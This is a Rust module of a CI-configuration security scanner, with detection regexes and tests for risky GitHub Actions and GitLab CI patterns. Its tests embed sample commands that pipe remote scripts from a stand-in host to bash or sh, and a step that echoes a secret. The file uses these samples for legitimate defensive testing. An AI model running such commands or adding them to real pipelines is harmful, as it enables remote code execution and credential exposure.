// SPDX-License-Identifier: Apache-2.0

//! Analysis of CI configuration: GitHub Actions workflows and GitLab CI
//! files. These run with repository credentials, so risky constructs here
//! are close to risky constructs in an installer.

use crate::{
	analysis::{
		finding::{AnalyzerKind, Finding, Location, Severity},
		load_files,
		pattern::line_of,
		ScanInput,
	},
	error::Result,
};
use regex::Regex;
use std::{path::Path, sync::LazyLock};

fn is_workflow(path: &Path) -> bool {
	let yaml_ext = path
		.extension()
		.and_then(|ext| ext.to_str())
		.map(|ext| ext == "yml" || ext == "yaml")
		.unwrap_or(false);

	yaml_ext
		&& path
			.parent()
			.map(|parent| parent.ends_with(".github/workflows"))
			.unwrap_or(false)
}

fn is_gitlab_ci(path: &Path) -> bool {
	path.file_name()
		.and_then(|name| name.to_str())
		.map(|name| name == ".gitlab-ci.yml")
		.unwrap_or(false)
}

static SECRET_ECHO: LazyLock<Regex> =
	LazyLock::new(|| Regex::new(r"echo[^\n]*\$\{\{\s*secrets\.").unwrap());
static PIPE_TO_SHELL: LazyLock<Regex> =
	LazyLock::new(|| Regex::new(r"(curl|wget)[^\n|]*\|\s*(bash|sh)\b").unwrap());
static SECRET_VARIABLE_KEY: LazyLock<Regex> =
	LazyLock::new(|| Regex::new(r"(?i)password|secret|token|key|api_key|apikey").unwrap());
static HEX40: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^[0-9a-fA-F]{40}$").unwrap());

pub struct CiRiskAnalyzer;

impl CiRiskAnalyzer {
	pub async fn scan(&self, input: &ScanInput) -> Result<Vec<Finding>> {
		let scoped: Vec<_> = input
			.files
			.iter()
			.filter(|path| {
				let relative = input.relative(path);
				is_workflow(relative) || is_gitlab_ci(relative)
			})
			.cloned()
			.collect();
		let contents = load_files(scoped, None).await;

		let mut findings = Vec::new();
		for (path, content) in &contents {
			let relative = input.relative(path);

			let parsed: serde_yaml::Value = match serde_yaml::from_str(content) {
				Ok(parsed) => parsed,
				Err(err) => {
					findings.push(
						Finding::new(
							AnalyzerKind::CiRisk,
							Severity::Info,
							"ci_parse_error",
							format!("could not parse CI configuration: {}", err),
							Location::file(relative),
						)
						.with_meta("category", "ci"),
					);
					continue;
				}
			};

			if is_gitlab_ci(relative) {
				findings.extend(gitlab_findings(relative, content, &parsed));
			} else {
				findings.extend(workflow_findings(relative, content, &parsed));
			}
		}

		Ok(findings)
	}
}

/// Look up a mapping key by name, tolerating the YAML 1.1 reading of `on`
/// as a boolean.
fn get_key<'v>(value: &'v serde_yaml::Value, key: &str) -> Option<&'v serde_yaml::Value> {
	let mapping = value.as_mapping()?;

	if let Some(found) = mapping.get(key) {
		return Some(found);
	}

	if key == "on" {
		return mapping.get(&serde_yaml::Value::Bool(true));
	}

	None
}

/// Whether a workflow trigger value names an event.
fn triggers_on(on: &serde_yaml::Value, event: &str) -> bool {
	match on {
		serde_yaml::Value::String(value) => value == event,
		serde_yaml::Value::Sequence(values) => values
			.iter()
			.any(|value| value.as_str() == Some(event)),
		serde_yaml::Value::Mapping(map) => map.get(event).is_some(),
		_ => false,
	}
}

/// Best-effort line number: the first occurrence of the snippet's first line
/// in the raw file content.
fn locate(relative: &Path, content: &str, snippet: &str) -> Location {
	let needle = snippet.lines().next().unwrap_or(snippet).trim();
	match content.find(needle) {
		Some(offset) if !needle.is_empty() => Location::line(relative, line_of(content, offset)),
		_ => Location::file(relative),
	}
}

fn workflow_findings(
	relative: &Path,
	content: &str,
	doc: &serde_yaml::Value,
) -> Vec<Finding> {
	let mut findings = Vec::new();

	if get_key(doc, "permissions").and_then(|p| p.as_str()) == Some("write-all") {
		findings.push(
			Finding::new(
				AnalyzerKind::CiRisk,
				Severity::High,
				"ci_permissions_write_all",
				"workflow grants write-all permissions",
				locate(relative, content, "permissions"),
			)
			.with_meta("category", "ci")
			.with_evidence("permissions: write-all"),
		);
	}

	if let Some(on) = get_key(doc, "on") {
		if triggers_on(on, "pull_request_target") {
			findings.push(
				Finding::new(
					AnalyzerKind::CiRisk,
					Severity::High,
					"ci_pull_request_target",
					"workflow triggers on pull_request_target",
					locate(relative, content, "pull_request_target"),
				)
				.with_meta("category", "ci")
				.with_evidence("on: pull_request_target"),
			);
		}
	}

	let Some(jobs) = get_key(doc, "jobs").and_then(|jobs| jobs.as_mapping()) else {
		return findings;
	};

	for (_job_name, job) in jobs {
		let Some(steps) = get_key(job, "steps").and_then(|steps| steps.as_sequence()) else {
			continue;
		};

		for step in steps {
			if let Some(run) = get_key(step, "run").and_then(|run| run.as_str()) {
				if SECRET_ECHO.is_match(run) {
					findings.push(
						Finding::new(
							AnalyzerKind::CiRisk,
							Severity::Critical,
							"ci_secret_exposure",
							"workflow step echoes a secret",
							locate(relative, content, run),
						)
						.with_meta("category", "ci")
						.with_masked_evidence(run),
					);
				}

				if PIPE_TO_SHELL.is_match(run) {
					findings.push(
						Finding::new(
							AnalyzerKind::CiRisk,
							Severity::High,
							"ci_curl_pipe_shell",
							"workflow step pipes a remote script to a shell",
							locate(relative, content, run),
						)
						.with_meta("category", "ci")
						.with_evidence(run),
					);
				}
			}

			if let Some(uses) = get_key(step, "uses").and_then(|uses| uses.as_str()) {
				findings.extend(uses_findings(relative, content, uses));
			}
		}
	}

	findings
}

/// Pinning checks for a step's `uses:` reference.
fn uses_findings(relative: &Path, content: &str, uses: &str) -> Vec<Finding> {
	let mut findings = Vec::new();
	let pin = uses.rsplit_once('@').map(|(_, pin)| pin);

	let unpinned = match pin {
		None => true,
		Some(pin) => pin == "main" || pin == "master",
	};
	if unpinned {
		findings.push(
			Finding::new(
				AnalyzerKind::CiRisk,
				Severity::Medium,
				"ci_unpinned_action",
				"action reference is not pinned to a version",
				locate(relative, content, uses),
			)
			.with_meta("category", "ci")
			.with_evidence(uses),
		);
	}

	let first_party = uses.starts_with("actions/");
	let sha_pinned = pin.map(|pin| HEX40.is_match(pin)).unwrap_or(false);
	if !first_party && !sha_pinned {
		findings.push(
			Finding::new(
				AnalyzerKind::CiRisk,
				Severity::Medium,
				"ci_third_party_action",
				"third-party action without a commit pin",
				locate(relative, content, uses),
			)
			.with_meta("category", "ci")
			.with_evidence(uses),
		);
	}

	findings
}

fn gitlab_findings(
	relative: &Path,
	content: &str,
	doc: &serde_yaml::Value,
) -> Vec<Finding> {
	let mut findings = Vec::new();

	if let Some(variables) = get_key(doc, "variables").and_then(|vars| vars.as_mapping()) {
		for (key, value) in variables {
			let Some(key) = key.as_str() else { continue };
			let Some(value) = value.as_str() else { continue };

			if SECRET_VARIABLE_KEY.is_match(key) && !value.is_empty() {
				findings.push(
					Finding::new(
						AnalyzerKind::CiRisk,
						Severity::High,
						"ci_plaintext_secret",
						format!("plaintext secret in CI variable '{}'", key),
						locate(relative, content, key),
					)
					.with_meta("category", "ci")
					.with_masked_evidence(&format!("{}={}", key, value)),
				);
			}
		}
	}

	let Some(mapping) = doc.as_mapping() else {
		return findings;
	};

	for (_name, job) in mapping {
		let Some(script) = get_key(job, "script").and_then(|script| script.as_sequence()) else {
			continue;
		};

		for entry in script {
			let Some(line) = entry.as_str() else { continue };
			if PIPE_TO_SHELL.is_match(line) {
				findings.push(
					Finding::new(
						AnalyzerKind::CiRisk,
						Severity::High,
						"ci_curl_pipe_shell",
						"CI script pipes a remote script to a shell",
						locate(relative, content, line),
					)
					.with_meta("category", "ci")
					.with_evidence(line),
				);
			}
		}
	}

	findings
}

#[cfg(test)]
mod tests {
	use super::*;
	use std::path::PathBuf;

	async fn scan_file(rel: &str, content: &str) -> Vec<Finding> {
		let dir = tempfile::tempdir().unwrap();
		let path = dir.path().join(rel);
		std::fs::create_dir_all(path.parent().unwrap()).unwrap();
		std::fs::write(&path, content).unwrap();
		let files: Vec<PathBuf> = crate::source::walk::walk(dir.path())
			.unwrap()
			.into_iter()
			.map(|f| f.absolute_path)
			.collect();
		let input = ScanInput {
			root_dir: dir.path().to_path_buf(),
			files,
			policy: None,
		};
		CiRiskAnalyzer.scan(&input).await.unwrap()
	}

	fn ids(findings: &[Finding]) -> Vec<&str> {
		findings.iter().map(|f| f.rule_id.as_str()).collect()
	}

	#[test]
	fn scope_matches_workflows_and_gitlab() {
		assert!(is_workflow(Path::new(".github/workflows/ci.yml")));
		assert!(is_workflow(Path::new(".github/workflows/release.yaml")));
		assert!(!is_workflow(Path::new(".github/dependabot.yml")));
		assert!(!is_workflow(Path::new("docs/ci.yml")));
		assert!(is_gitlab_ci(Path::new(".gitlab-ci.yml")));
	}

	#[tokio::test]
	async fn detects_write_all_and_pull_request_target() {
		let workflow = "permissions: write-all\non:\n  pull_request_target:\n    types: [opened]\njobs: {}\n";
		let findings = scan_file(".github/workflows/ci.yml", workflow).await;
		let ids = ids(&findings);
		assert!(ids.contains(&"ci_permissions_write_all"));
		assert!(ids.contains(&"ci_pull_request_target"));
	}

	#[tokio::test]
	async fn detects_secret_echo_in_step() {
		let workflow = "on: push\njobs:\n  build:\n    steps:\n      - run: echo ${{ secrets.DEPLOY_KEY }}\n";
		let findings = scan_file(".github/workflows/ci.yml", workflow).await;
		let finding = findings
			.iter()
			.find(|f| f.rule_id == "ci_secret_exposure")
			.unwrap();
		assert_eq!(finding.severity, Severity::Critical);
		assert_eq!(finding.location.line, Some(5));
	}

	#[tokio::test]
	async fn detects_pipe_to_shell_in_step() {
		let workflow =
			"on: push\njobs:\n  build:\n    steps:\n      - run: curl https://x.test/i.sh | bash\n";
		let findings = scan_file(".github/workflows/ci.yml", workflow).await;
		assert!(ids(&findings).contains(&"ci_curl_pipe_shell"));
	}

	#[tokio::test]
	async fn flags_unpinned_and_third_party_actions() {
		let workflow = "on: push\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n      - uses: acme/deploy@main\n      - uses: acme/audited@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n";
		let findings = scan_file(".github/workflows/ci.yml", workflow).await;

		let unpinned: Vec<_> = findings
			.iter()
			.filter(|f| f.rule_id == "ci_unpinned_action")
			.collect();
		assert_eq!(unpinned.len(), 1);
		assert_eq!(unpinned[0].evidence.as_deref(), Some("acme/deploy@main"));

		let third_party: Vec<_> = findings
			.iter()
			.filter(|f| f.rule_id == "ci_third_party_action")
			.collect();
		assert_eq!(third_party.len(), 1);
		assert_eq!(third_party[0].evidence.as_deref(), Some("acme/deploy@main"));
	}

	#[tokio::test]
	async fn gitlab_plaintext_secret_is_masked() {
		let config = "variables:\n  API_TOKEN: \"abcd1234abcd1234abcd1234abcd1234abcd\"\n\nbuild:\n  script:\n    - make\n";
		let findings = scan_file(".gitlab-ci.yml", config).await;
		let finding = findings
			.iter()
			.find(|f| f.rule_id == "ci_plaintext_secret")
			.unwrap();
		assert_eq!(finding.severity, Severity::High);
		let evidence = finding.evidence.as_deref().unwrap();
		assert!(evidence.contains("[MASKED]"), "evidence: {}", evidence);
		assert!(!evidence.contains("abcd1234abcd1234abcd1234abcd1234abcd"));
	}

	#[tokio::test]
	async fn gitlab_script_pipe_is_flagged() {
		let config = "deploy:\n  script:\n    - wget https://x.test/run.sh | sh\n";
		let findings = scan_file(".gitlab-ci.yml", config).await;
		assert!(ids(&findings).contains(&"ci_curl_pipe_shell"));
	}

	#[tokio::test]
	async fn invalid_yaml_is_an_info_finding() {
		let findings = scan_file(".github/workflows/ci.yml", "on: [unclosed\n").await;
		assert_eq!(ids(&findings), vec!["ci_parse_error"]);
		assert_eq!(findings[0].severity, Severity::Info);
	}

	#[tokio::test]
	async fn non_ci_yaml_is_out_of_scope() {
		let findings = scan_file("config/app.yml", "permissions: write-all\n").await;
		assert!(findings.is_empty());
	}
}
